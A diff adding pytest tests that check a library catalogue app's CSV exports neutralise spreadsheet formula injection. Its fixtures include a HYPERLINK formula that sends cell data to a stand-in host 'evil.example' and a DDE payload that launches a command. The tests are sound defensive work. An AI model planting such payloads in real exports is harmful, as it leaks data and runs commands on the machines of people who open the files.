@@ -6,12 +6,19 @@ and the security headers. Every route is enumerated from the application itself.
 
 from __future__ import annotations
 
+import csv
+import io
 import re
+from datetime import date
 
+import pytest
+from click.testing import CliRunner
 from werkzeug.routing.converters import NumberConverter
 
-from library import Catalogue
+from library import Author, Catalogue, Copy, Record, Support
+from library.formats.holdings_csv import read_holdings
 from library.loans import Loans
+from webapp.cli import cli
 
 from .workspace_fixtures import (  # noqa: F401 - fixtures
     LOGIN,
@@ -186,3 +193,81 @@ def test_the_current_password_check_is_throttled_like_the_login(app, logged_in):
     assert int(blocked.headers["Retry-After"]) > 60
     assert login(app.test_client()).status_code == 429  # one counter for both doors
     assert login(app.test_client(), password="x" * 12).status_code == 429
+
+
+# -- formula injection in every CSV -----------------------------------------------------------
+
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
+FORMULA_AUTHOR = "+cmd|' /C calc'!A0"
+FORMULA_PUBLISHER = "@SUM(1+1)"
+
+
+def _hostile_record(app) -> int:  # type: ignore[no-untyped-def]
+    with Catalogue.in_instance(app.config["INSTANCE"]) as cat:
+        record = cat.add(
+            Record(
+                title=FORMULA_TITLE,
+                authors=(Author(FORMULA_AUTHOR),),
+                publisher=FORMULA_PUBLISHER,
+                notes="-1+1",
+                year=2013,
+                support=Support.PAPIER,
+                copies=(Copy("=CRPV0001", "361 MED", "Salle"),),
+            )
+        )
+    assert record.id is not None
+    return record.id
+
+
+def _cells(data: bytes, delimiter: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))
+
+
+def _no_formula(rows: list[list[str]]) -> None:
+    for cells in rows:
+        for cell in cells:
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
+
+
+@pytest.mark.parametrize(("name", "delimiter"), [("csv", ";"), ("csv-comma", ",")])
+def test_site_exports_neutralise_formulas_and_import_back_to_the_original(app, name, delimiter):
+    _hostile_record(app)
+    response = app.test_client().get(f"/export?format={name}")
+    assert response.status_code == 200
+    rows = _cells(response.data, delimiter)
+    _no_formula(rows)
+    assert "'" + FORMULA_TITLE in rows[1] and "'" + FORMULA_PUBLISHER in rows[1]
+    parsed = read_holdings(response.data)
+    assert not parsed.errors
+    ((_, record),) = parsed.rows
+    assert record.title == FORMULA_TITLE
+    assert [a.name for a in record.authors] == [FORMULA_AUTHOR.replace("|", "/")]  # "|" separates
+    assert record.publisher == FORMULA_PUBLISHER and record.notes == "-1+1"
+    assert [c.barcode for c in record.copies] == ["=CRPV0001"]
+
+
+def test_the_cli_export_neutralises_formulas_too(app, tmp_path):
+    _hostile_record(app)
+    out = tmp_path / "export.csv"
+    result = CliRunner().invoke(
+        cli,
+        ["--instance", str(app.config["INSTANCE"]), "export", "--format", "csv", "-o", str(out)],
+        catch_exceptions=False,
+    )
+    assert result.exit_code == 0, result.output
+    rows = _cells(out.read_bytes(), ";")
+    _no_formula(rows)
+    assert read_holdings(out.read_bytes()).rows[0][1].title == FORMULA_TITLE
+
+
+def test_the_overdue_list_neutralises_formulas(app, logged_in):
+    _hostile_record(app)
+    with Catalogue.in_instance(app.config["INSTANCE"]) as cat:
+        desk = Loans(cat)
+        borrower = desk.add_borrower("=Paul Témoin", phone="+596 696 00 00 00")
+        desk.check_out("=CRPV0001", borrower.id, today=date(2013, 1, 2))
+    response = logged_in.get("/admin/prets/retards.csv")
+    rows = _cells(response.data, ";")
+    assert len(rows) == 2
+    _no_formula(rows)
+    assert rows[1][:2] == ["'=CRPV0001", "'" + FORMULA_TITLE]
